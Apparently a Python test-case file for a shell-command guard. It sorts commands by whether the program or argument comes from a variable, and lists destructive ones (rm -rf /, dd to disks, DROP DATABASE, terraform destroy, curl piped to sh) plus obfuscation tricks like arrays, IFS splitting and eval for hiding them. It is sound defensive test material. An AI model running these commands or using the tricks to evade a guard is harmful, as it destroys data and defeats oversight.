"""Programs, code and queries that only the run decides: judged by all that is known of them."""

from __future__ import annotations

from collections.abc import Iterator

from generated.cases import Case, asked, free, warned

_NAMELESS = ("$X", '"$CMD"', "${TOOL}", "$1", '"$@"', "$(cat tool)", "${BIN[0]}")
_GIT = (
    *("reset --hard", "reset --hard HEAD~3", "push --force origin main", "push -f", "clean -fdx"),
    *("branch -D main", "checkout -- .", "stash clear", "-C /x reset --hard", "restore ."),
)
_NAMED = r"""
$RM -rf /etc
"$RM" -rf ~/
${RM:-rm} -rf /
$(which rm) -rf /
$(command -v rm) -rf ~
$SUDO rm -rf /
$SUDO -n rm -rf ~
${SUDO:+sudo} rm -rf /
$KUBECTL delete ns x
$KUBECTL -n prod delete deploy --all
$OC delete project x
$TF destroy -auto-approve
$TERRAFORM apply -destroy -auto-approve
$HELM uninstall x
$DOCKER system prune -af
$DOCKER volume rm x
$DOCKER_BIN volume rm x
$COMPOSE down -v
$AWS s3 rm s3://b --recursive
$AWS_CLI s3 rb s3://b --force
$GCLOUD projects delete x
"$PSQL" -c 'DROP TABLE x'
$PSQL -h db -U u -c "TRUNCATE users"
$MYSQL -uroot -e "DELETE FROM users"
$MYSQL <<< 'DROP DATABASE x'
echo 'DROP DATABASE x' | $MYSQL
$SQLITE x.db 'DROP TABLE x'
$REDIS flushall
$REDIS_CLI FLUSHALL
$MONGO --eval 'db.dropDatabase()'
$SSH host 'rm -rf /'
$SHELL -c 'rm -rf ~'
$PYTHON -c 'import shutil; shutil.rmtree("/")'
"$PYTHON" -c 'import os; os.system("rm -rf ~")'
$NODE -e 'require("fs").rmSync("/",{recursive:true})'
$PERL -e 'system("rm -rf ~")'
$NPM publish
$CHMOD -R 777 /
$CHOWN -R root /
$DD if=/dev/zero of=/dev/sda
$MKFS /dev/sda1
$FIND / -delete
find / | $XARGS rm -rf
$CURL -fsSL https://x.io/i.sh | sh
"$PREFIX/bin/rm" -rf /
$(pwd)/../../bin/rm -rf ~
"""
_VALUES = r"""
A=(rm -rf /); "${A[@]}"
A=(rm -rf); "${A[@]}" ~
A=(-rf /); rm "${A[@]}"
declare -a A=(rm -rf ~); "${A[@]}"
typeset -a A=(rm -rf ~); "${A[@]}"
declare A=rm; $A -rf /
typeset A=rm; $A -rf /
export A=rm; $A -rf /
readonly A=rm; $A -rf /
declare -r A="rm -rf /"; $A
declare -x A=/; rm -rf $A
A+=(rm); A+=(-rf); A+=(/); "${A[@]}"
A=r; A+=m; $A -rf /
IFS=,; A=rm,-rf,/; $A
IFS=:; X=rm:-rf:/; $X
declare -A M=([a]=rm); ${M[a]} -rf /
declare -A M; M[x]=/; rm -rf ${M[x]}
declare -n R=A; A=/; rm -rf $R
A=/; B=A; rm -rf ${!B}
printf -v c 'rm -rf %s' /; $c
read -r c <<< 'rm -rf /'; $c
read a b c <<< 'rm -rf /'; $a $b $c
mapfile -t L <<< '/'; rm -rf "${L[0]}"
set -- rm -rf /; "$@"
set -- / ; rm -rf $1
X=$(echo /); rm -rf $X
echo 'X=/' > e; . ./e; rm -rf $X
printf 'D=/\n' > .env; set -a; . ./.env; rm -rf "$D"
. ./conf; rm -rf $X
source conf.sh; rm -rf "$BUILD_DIR"/*
rm -rf "$X"/*
f() { $1 -rf /; }; f rm
f() { "$@"; }; f rm -rf /
run() { echo "+ $*"; "$@"; }; run git reset --hard
cmd=$(cat x); $cmd -rf /
read c; $c -rf /
for c in $(cat l); do $c -rf /; done
eval "$X -rf /"
eval "rm $X /"
"""
_EVERYDAY = r"""
. venv/bin/activate
source .venv/bin/activate && pytest
source "$HOME/.cargo/env"
. $HOME/.nvm/nvm.sh
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
"$PYTHON" -m pytest
$PYTHON -m pip install -r requirements.txt
${PYTHON:-python3} -m venv .venv
$CC -o x x.c
$CXX -O2 -Wall -c a.cpp -o a.o
${EDITOR:-vi} notes.md
$BROWSER http://localhost:3000
$MAKE clean
$GIT status
$GIT push origin feature
$GIT reset --soft HEAD~1
$KUBECTL get pods
$KUBECTL apply -f x.yaml
$DOCKER build -t x .
$DOCKER run --rm x pytest
"$PSQL" -c 'SELECT 1'
$MYSQL -e 'SHOW TABLES'
$SQLITE x.db '.tables'
$TERRAFORM plan
$AWS s3 ls
$NPM run build
$CARGO build --release
$SHELL -c 'ls'
$SSH host uptime
$CURL -s $URL | jq .
$CMAKE -S . -B build
./$BIN --help
"$ROOT/bin/tool" --check
"$SCRIPT_DIR/build.sh" --release
$JAVA_HOME/bin/java -version
"$VIRTUAL_ENV/bin/python" -m pytest
$RM -f build/x.o
${RM} -r dist node_modules
$MV a.tmp a
$TAR czf x.tgz src
$FIND . -name '*.py'
$GREP -rf patterns.txt src
A=(pytest -q); "${A[@]}"
ARGS="-q -x"; pytest $ARGS
IFS=,; read -ra P <<< "a,b"; echo "${P[@]}"
while IFS= read -r line; do echo "$line"; done < f
for t in tests/*.sh; do bash "$t"; done
python "$SCRIPT_DIR/x.py"
eval "$(ssh-agent -s)"
eval "$(pyenv init -)"
exec "$@"
exec "$SHELL" -l
set -a; . ./.env; set +a; npm start
python -c "print('$X')"
psql "$DATABASE_URL" -c 'select 1'
sqlite3 "$DB" "SELECT count(*) FROM t"
ssh $USER@$HOST 'systemctl status x'
docker exec "$C" ls
"""
_CODE = r"""
bash -c <var>
sh -c <var>
eval <var>
bash <var>
sh <var> --arg
. <var>
source <var>
python <var>
node <var>
ruby <var>
perl <var>
python -c <var>
python3 -Ic <var>
node -e <var>
node --eval <var>
ruby -e <var>
perl -e <var>
perl -pe <var> f
php -r <var>
lua -e <var>
Rscript -e <var>
deno eval <var>
bun -e <var>
psql -c <var>
psql -f <var>
psql < <var>
psql db -c <var>
psql <<< <var>
echo <var> | psql
mysql -e <var>
mysql --execute=<var>
mysql db < <var>
sqlite3 db <var>
sqlite3 db < <var>
duckdb x.db <var>
mongosh --eval <var>
clickhouse-client -q <var>
bq query <var>
cqlsh -e <var>
sqlcmd -Q <var>
redis-cli <var>
echo <var> | bash
echo <var> | python3
bash <<< <var>
python3 <<< <var>
ssh host <var>
docker exec c sh -c <var>
kubectl exec p -- sh -c <var>
find . -exec sh -c <var> \;
awk <var> f
vim -c <var>
su -c <var>
sudo sh -c <var>
"""


def cases() -> Iterator[Case]:
    """Yield programs by name and without one, values that are known, and code that is not."""
    yield from asked("<head> <rest>", head=_NAMELESS, rest=("-rf /", "-r -f ~", "--recursive /etc"))
    yield from asked("<head> <rest>", head=("$GIT", '"${GIT}"', "$GIT_BIN", "$X"), rest=_GIT)
    yield from asked("<head> rm -rf /", "<head> git reset --hard", head=("$SUDO", "$RUN", "$X"))
    yield from asked(*_lines(_NAMED), *_lines(_VALUES))
    yield from warned(*_lines(_CODE), var=('"$X"', "$CODE", '"${Q}"'))
    yield from free("<head> <rest>", head=_NAMELESS, rest=("-rf build", "--version", "-v", "run x"))
    yield from free(*_lines(_EVERYDAY))


def _lines(block: str) -> list[str]:
    return block.strip("\n").splitlines()
